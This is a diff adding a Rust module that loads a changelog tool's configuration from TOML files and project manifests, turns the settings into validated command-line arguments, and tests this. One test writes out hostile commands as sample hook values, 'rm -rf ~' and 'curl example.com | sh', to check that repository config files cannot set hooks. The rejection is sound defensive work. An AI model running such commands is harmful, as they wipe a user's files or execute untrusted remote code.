@@ -0,0 +1,511 @@
+//! Configuration discovery and loading.
+//!
+//! This module looks up changelogger settings stored alongside a project: a
+//! `.changelogger.toml` or `changelogger.toml` at the repository root (or a file given with
+//! `--config`), or the `[tool.changelogger]` table of a `pyproject.toml` or the
+//! `[package.metadata.changelogger]` table of a `Cargo.toml`.
+
+use std::error::Error;
+use std::ffi::{OsStr, OsString};
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use anyhow::{anyhow, Context, Result};
+use clap::error::{ContextKind, ContextValue};
+use clap::{Arg, ArgAction, Command};
+use toml::{Table, Value};
+
+/// Name of the repository-local configuration file.
+pub const CONFIG_FILE: &str = "changelogger.toml";
+
+/// Name of the hidden repository-local configuration file, preferred over [`CONFIG_FILE`].
+pub const HIDDEN_CONFIG_FILE: &str = ".changelogger.toml";
+
+/// Settings holding paths, which are resolved relative to the repository root.
+const PATH_SETTINGS: &[&str] = &["output", "input"];
+
+/// Settings accepted only on the command line. The hooks run shell commands, which a
+/// configuration file checked into a repository must not be able to do, and the repository
+/// and configuration file are already chosen by the time the file is read.
+const COMMAND_LINE_ONLY: &[&str] = &["pre_run_hook", "post_run_hook", "repo", "config"];
+
+/// Tables of `key = value` pairs and the repeatable option each pair is passed to, as
+/// `--option key=value`. `[prefixes]` is an alias of `[prefix_overrides]`.
+const TABLE_SETTINGS: &[(&str, &str)] = &[
+    ("prefixes", "--prefix-override"),
+    ("prefix_overrides", "--prefix-override"),
+];
+
+/// Loads the repository-local configuration file, if there is one.
+///
+/// `.changelogger.toml` is used if present, otherwise `changelogger.toml`.
+///
+/// # Arguments
+///
+/// * `repo_path` - The repository root
+///
+/// # Returns
+///
+/// The path of the file and its parsed settings, or `None` if the repository has no
+/// configuration file.
+///
+/// # Errors
+///
+/// Returns an error if the file exists but cannot be read or is not valid TOML.
+pub fn load_repo_config(repo_path: &Path) -> Result<Option<(PathBuf, Table)>> {
+    let Some(path) = [HIDDEN_CONFIG_FILE, CONFIG_FILE]
+        .iter()
+        .map(|name| repo_path.join(name))
+        .find(|path| path.is_file())
+    else {
+        return Ok(None);
+    };
+    let table = load_config_file(&path)?;
+    Ok(Some((path, table)))
+}
+
+/// Loads a configuration file.
+///
+/// # Arguments
+///
+/// * `path` - The path of the file
+///
+/// # Errors
+///
+/// Returns an error if the file cannot be read or is not valid TOML; the message includes
+/// the line and column of a syntax error.
+pub fn load_config_file(path: &Path) -> Result<Table> {
+    let content =
+        fs::read_to_string(path).with_context(|| format!("Could not read {}", path.display()))?;
+    content
+        .parse()
+        .with_context(|| format!("Could not parse {}", path.display()))
+}
+
+/// Converts configuration settings into the equivalent command-line arguments.
+///
+/// Each `key = value` becomes `--key value` (underscores in keys become dashes), `true`
+/// becomes a bare `--key` flag, `false` becomes `--no-key` and arrays repeat the option.
+/// Paths are resolved relative to the repository root. Each entry of a `[prefixes]` or
+/// `[prefix_overrides]` table becomes `--prefix-override key=value`.
+///
+/// Every setting is checked against the options of `command`, so that a mistake is
+/// reported by its name in the file rather than as an unexpected argument.
+///
+/// # Arguments
+///
+/// * `settings` - The parsed configuration
+/// * `repo_path` - The repository root
+/// * `command` - The command the arguments are meant for
+///
+/// # Returns
+///
+/// The arguments, to be placed before the real command line so that it takes precedence.
+///
+/// # Errors
+///
+/// Returns an error if a setting is not an option of `command`, has a value of the wrong
+/// type or one its option rejects, is a table other than the ones above, or can only be
+/// given on the command line (the hooks, `repo` and `config`).
+pub fn config_args(settings: &Table, repo_path: &Path, command: &Command) -> Result<Vec<OsString>> {
+    let mut args = Vec::new();
+    for (key, value) in settings {
+        if COMMAND_LINE_ONLY.contains(&key.replace('-', "_").as_str()) {
+            return Err(anyhow!(
+                "{key} cannot be set in a configuration file, only on the command line"
+            ));
+        }
+        if let Value::Table(table) = value {
+            let Some((_, option)) = TABLE_SETTINGS.iter().find(|(name, _)| name == key) else {
+                return Err(anyhow!("Unknown table [{key}]"));
+            };
+            let arg = find_arg(command, option.trim_start_matches('-'))
+                .ok_or_else(|| anyhow!("Unknown table [{key}]"))?;
+            for (entry, value) in table {
+                let Value::String(value) = value else {
+                    return Err(anyhow!(
+                        "Unsupported value for {key}.{entry}: {value}, expected a string"
+                    ));
+                };
+                let value = OsString::from(format!("{entry}={value}"));
+                check_value(arg, &format!("{key}.{entry}"), &value)?;
+                args.push(option.into());
+                args.push(value);
+            }
+            continue;
+        }
+
+        let arg = find_arg(command, key).ok_or_else(|| anyhow!("Unknown setting {key}"))?;
+        let long = arg.get_long().unwrap_or_default();
+        let flag = matches!(arg.get_action(), ArgAction::SetTrue);
+        let values = match value {
+            Value::Array(_) if !matches!(arg.get_action(), ArgAction::Append) => {
+                return Err(anyhow!("{key} takes a single value, not an array"));
+            }
+            Value::Array(items) => items.iter().collect(),
+            _ => vec![value],
+        };
+        for value in values {
+            let arg_value: OsString = match value {
+                Value::Boolean(true) if flag => {
+                    args.push(format!("--{long}").into());
+                    continue;
+                }
+                Value::Boolean(false) if flag => {
+                    args.push(format!("--no-{long}").into());
+                    continue;
+                }
+                _ if flag => return Err(anyhow!("{key} must be true or false, not {value}")),
+                Value::String(s) if PATH_SETTINGS.contains(&key.as_str()) && s != "-" => {
+                    repo_path.join(s).into_os_string()
+                }
+                Value::String(s) => s.into(),
+                Value::Integer(i) => i.to_string().into(),
+                Value::Float(f) => f.to_string().into(),
+                other => return Err(anyhow!("Unsupported value for setting {key}: {other}")),
+            };
+            check_value(arg, key, &arg_value)?;
+            args.push(format!("--{long}").into());
+            args.push(arg_value);
+        }
+    }
+    Ok(args)
+}
+
+/// Finds the option a setting stands for, by its long name or one of its aliases.
+fn find_arg<'a>(command: &'a Command, key: &str) -> Option<&'a Arg> {
+    let long = key.replace('_', "-");
+    command.get_arguments().find(|arg| {
+        arg.get_long() == Some(long.as_str())
+            || arg
+                .get_all_aliases()
+                .is_some_and(|aliases| aliases.contains(&long.as_str()))
+    })
+}
+
+/// Checks the value of a setting with the parser of its option, on its own so that the
+/// other options it requires or conflicts with do not matter.
+///
+/// # Errors
+///
+/// Returns an error naming the setting, and the accepted values if there is a fixed set.
+fn check_value(arg: &Arg, key: &str, value: &OsStr) -> Result<()> {
+    let option = Arg::new(arg.get_id().clone())
+        .long("value")
+        .allow_hyphen_values(true)
+        .value_parser(arg.get_value_parser().clone());
+    let parsed = Command::new(key.to_string())
+        .no_binary_name(true)
+        .arg(option)
+        .try_get_matches_from([OsStr::new("--value"), value]);
+    let Err(err) = parsed else {
+        return Ok(());
+    };
+    let reason = match (err.get(ContextKind::ValidValue), err.source()) {
+        (Some(ContextValue::Strings(valid)), _) => {
+            format!(", expected one of {}", valid.join(", "))
+        }
+        (_, Some(source)) => format!(": {source}"),
+        _ => String::new(),
+    };
+    Err(anyhow!(
+        "Invalid value {} for {key}{reason}",
+        value.to_string_lossy()
+    ))
+}
+
+/// Looks up the changelog output path configured in a project manifest.
+///
+/// Checks `pyproject.toml` (`[tool.changelogger]`) first, then `Cargo.toml`
+/// (`[package.metadata.changelogger]`), and returns the first `output` value found.
+///
+/// # Arguments
+///
+/// * `repo_path` - The repository root containing the manifests
+///
+/// # Returns
+///
+/// Returns `Some(output)` if a manifest configures an output path, or `None` otherwise.
+/// Missing or malformed manifests are skipped.
+pub fn find_config_in_manifest(repo_path: &Path) -> Option<String> {
+    let manifests: [(&str, &[&str]); 2] = [
+        ("pyproject.toml", &["tool", "changelogger"]),
+        ("Cargo.toml", &["package", "metadata", "changelogger"]),
+    ];
+
+    manifests.iter().find_map(|(file, section)| {
+        let content = fs::read_to_string(repo_path.join(file)).ok()?;
+        let table: Table = content.parse().ok()?;
+        let settings = section
+            .iter()
+            .try_fold(&table, |table, key| table.get(*key)?.as_table())?;
+        settings.get("output")?.as_str().map(str::to_string)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    /// A command with an option of each kind the configuration file can set.
+    fn command() -> Command {
+        Command::new("changelogger")
+            .arg(
+                Arg::new("dry_run")
+                    .long("dry-run")
+                    .action(ArgAction::SetTrue),
+            )
+            .arg(
+                Arg::new("summary_line")
+                    .long("summary-line")
+                    .action(ArgAction::SetTrue),
+            )
+            .arg(
+                Arg::new("max_per_section")
+                    .long("max-per-section")
+                    .value_parser(clap::value_parser!(usize)),
+            )
+            .arg(Arg::new("output").long("output"))
+            .arg(
+                Arg::new("format")
+                    .long("format")
+                    .value_parser(["markdown", "json"]),
+            )
+            .arg(
+                Arg::new("prefix_override")
+                    .long("prefix-override")
+                    .alias("prefix")
+                    .action(ArgAction::Append)
+                    .value_parser(|value: &str| {
+                        value
+                            .split_once('=')
+                            .map(|_| value.to_string())
+                            .ok_or("expected KEY=CATEGORY")
+                    }),
+            )
+    }
+
+    #[test]
+    fn test_config_args() {
+        let settings: Table =
+            "output = \"docs/CHANGES.md\"\ndry_run = true\nsummary-line = false\n\
+                               max_per_section = 10\n"
+                .parse()
+                .unwrap();
+        let root = Path::new("/repo");
+
+        let args = config_args(&settings, root, &command()).unwrap();
+        assert_eq!(
+            args,
+            vec![
+                OsString::from("--dry-run"),
+                "--max-per-section".into(),
+                "10".into(),
+                "--output".into(),
+                root.join("docs/CHANGES.md").into_os_string(),
+                "--no-summary-line".into(),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_config_args_rejects_command_line_only_settings() {
+        let root = Path::new("/repo");
+        for setting in [
+            "post_run_hook = \"rm -rf ~\"",
+            "pre-run-hook = \"curl example.com | sh\"",
+            "repo = \"../other\"",
+            "config = \"other.toml\"",
+        ] {
+            let settings: Table = setting.parse().unwrap();
+            let err = config_args(&settings, root, &command()).unwrap_err();
+            assert!(
+                err.to_string().contains("only on the command line"),
+                "{err}"
+            );
+        }
+
+        let settings: Table = "[templates]\nbullet = \"* {title}\"\n".parse().unwrap();
+        let err = config_args(&settings, root, &command()).unwrap_err();
+        assert_eq!(err.to_string(), "Unknown table [templates]");
+    }
+
+    #[test]
+    fn test_config_args_reports_settings_by_name() {
+        let root = Path::new("/repo");
+        for (setting, expected) in [
+            ("no_such_setting = 1", "Unknown setting no_such_setting"),
+            (
+                "dry_run = \"yes\"",
+                "dry_run must be true or false, not \"yes\"",
+            ),
+            (
+                "output = true",
+                "Unsupported value for setting output: true",
+            ),
+            (
+                "output = [\"a\", \"b\"]",
+                "output takes a single value, not an array",
+            ),
+            (
+                "max_per_section = -1",
+                "Invalid value -1 for max_per_section: invalid digit found in string",
+            ),
+            (
+                "format = \"html\"",
+                "Invalid value html for format, expected one of markdown, json",
+            ),
+        ] {
+            let settings: Table = setting.parse().unwrap();
+            let err = config_args(&settings, root, &command()).unwrap_err();
+            assert_eq!(err.to_string(), expected, "{setting}");
+        }
+
+        // Aliases and repeated options are accepted.
+        let settings: Table = "prefix = [\"deps=patch\"]\nformat = \"json\"\n"
+            .parse()
+            .unwrap();
+        assert_eq!(
+            config_args(&settings, root, &command()).unwrap(),
+            vec![
+                OsString::from("--format"),
+                "json".into(),
+                "--prefix-override".into(),
+                "deps=patch".into(),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_load_repo_config() {
+        let dir = TempDir::new().unwrap();
+        assert!(load_repo_config(dir.path()).unwrap().is_none());
+
+        fs::write(dir.path().join(CONFIG_FILE), "output = \"HISTORY.md\"\n").unwrap();
+        let (path, settings) = load_repo_config(dir.path()).unwrap().unwrap();
+        assert_eq!(path, dir.path().join(CONFIG_FILE));
+        assert_eq!(settings["output"].as_str(), Some("HISTORY.md"));
+
+        fs::write(dir.path().join(CONFIG_FILE), "output = [").unwrap();
+        let err = load_repo_config(dir.path()).unwrap_err();
+        assert!(format!("{err:#}").contains(CONFIG_FILE));
+    }
+
+    #[test]
+    fn test_load_repo_config_prefers_hidden_file() {
+        let dir = TempDir::new().unwrap();
+        fs::write(dir.path().join(CONFIG_FILE), "output = \"VISIBLE.md\"\n").unwrap();
+        fs::write(
+            dir.path().join(HIDDEN_CONFIG_FILE),
+            "output = \"HIDDEN.md\"\n",
+        )
+        .unwrap();
+
+        let (path, settings) = load_repo_config(dir.path()).unwrap().unwrap();
+        assert_eq!(path, dir.path().join(HIDDEN_CONFIG_FILE));
+        assert_eq!(settings["output"].as_str(), Some("HIDDEN.md"));
+    }
+
+    #[test]
+    fn test_config_args_prefixes() {
+        let settings: Table = "[prefixes]\ndeps = \"patch\"\nsecurity = \"minor\"\n"
+            .parse()
+            .unwrap();
+        let args = config_args(&settings, Path::new("/repo"), &command()).unwrap();
+        assert_eq!(
+            args,
+            vec![
+                OsString::from("--prefix-override"),
+                "deps=patch".into(),
+                "--prefix-override".into(),
+                "security=minor".into(),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_config_args_prefix_overrides() {
+        let settings: Table = "[prefix_overrides]\nperf = \"patch\"\nsecurity = \"minor\"\n"
+            .parse()
+            .unwrap();
+        let args = config_args(&settings, Path::new("/repo"), &command()).unwrap();
+        assert_eq!(
+            args,
+            vec![
+                OsString::from("--prefix-override"),
+                "perf=patch".into(),
+                "--prefix-override".into(),
+                "security=minor".into(),
+            ]
+        );
+
+        let settings: Table = "[prefix_overrides]\nperf = 1\n".parse().unwrap();
+        assert!(config_args(&settings, Path::new("/repo"), &command()).is_err());
+    }
+
+    #[test]
+    fn test_find_config_in_manifest_pyproject() {
+        let dir = TempDir::new().unwrap();
+        fs::write(
+            dir.path().join("pyproject.toml"),
+            "[project]\nname = \"demo\"\n\n[tool.changelogger]\noutput = \"docs/CHANGES.md\"\n",
+        )
+        .unwrap();
+
+        assert_eq!(
+            find_config_in_manifest(dir.path()),
+            Some("docs/CHANGES.md".to_string())
+        );
+    }
+
+    #[test]
+    fn test_find_config_in_manifest_cargo() {
+        let dir = TempDir::new().unwrap();
+        fs::write(
+            dir.path().join("Cargo.toml"),
+            "[package]\nname = \"demo\"\n\n[package.metadata.changelogger]\noutput = \"HISTORY.md\"\n",
+        )
+        .unwrap();
+
+        assert_eq!(
+            find_config_in_manifest(dir.path()),
+            Some("HISTORY.md".to_string())
+        );
+    }
+
+    #[test]
+    fn test_find_config_in_manifest_pyproject_first() {
+        let dir = TempDir::new().unwrap();
+        fs::write(
+            dir.path().join("pyproject.toml"),
+            "[tool.changelogger]\noutput = \"PY.md\"\n",
+        )
+        .unwrap();
+        fs::write(
+            dir.path().join("Cargo.toml"),
+            "[package.metadata.changelogger]\noutput = \"RUST.md\"\n",
+        )
+        .unwrap();
+
+        assert_eq!(
+            find_config_in_manifest(dir.path()),
+            Some("PY.md".to_string())
+        );
+    }
+
+    #[test]
+    fn test_find_config_in_manifest_missing() {
+        let dir = TempDir::new().unwrap();
+        assert_eq!(find_config_in_manifest(dir.path()), None);
+
+        // A manifest without the section, or a malformed one, is skipped.
+        fs::write(
+            dir.path().join("Cargo.toml"),
+            "[package]\nname = \"demo\"\n",
+        )
+        .unwrap();
+        fs::write(dir.path().join("pyproject.toml"), "not = [valid").unwrap();
+        assert_eq!(find_config_in_manifest(dir.path()), None);
+    }
+}